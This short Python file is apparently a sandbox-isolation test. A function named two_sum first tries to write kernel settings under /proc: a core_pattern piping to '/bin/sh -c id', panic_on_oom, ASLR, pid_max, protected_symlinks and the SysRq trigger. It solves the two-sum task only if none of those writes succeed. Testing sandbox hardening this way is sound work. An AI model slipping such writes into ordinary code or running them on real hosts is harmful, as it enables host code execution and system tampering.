# Tries to change global kernel settings: core_pattern (host code execution on the next
# crash), panic_on_oom, ASLR, pid_max, and the magic SysRq trigger. Accepted means none moved.
import os

def two_sum(nums, target):
    moved = []
    for path, value in [
        ("/proc/sys/kernel/core_pattern", "|/bin/sh -c id"),
        ("/proc/sys/vm/panic_on_oom", "1"),
        ("/proc/sys/kernel/randomize_va_space", "2"),
        ("/proc/sys/kernel/pid_max", "32768"),
        ("/proc/sys/fs/protected_symlinks", "1"),
        ("/proc/sysrq-trigger", "h"),
    ]:
        if os.access(path, os.W_OK):
            moved.append("writable:" + path)
        try:
            with open(path, "w") as f:
                f.write(value)
            moved.append("wrote:" + path)
        except OSError:
            pass
    if moved:
        return moved
    seen = {}
    for i, n in enumerate(nums):
        if target - n in seen:
            return [seen[target - n], i]
        seen[n] = i
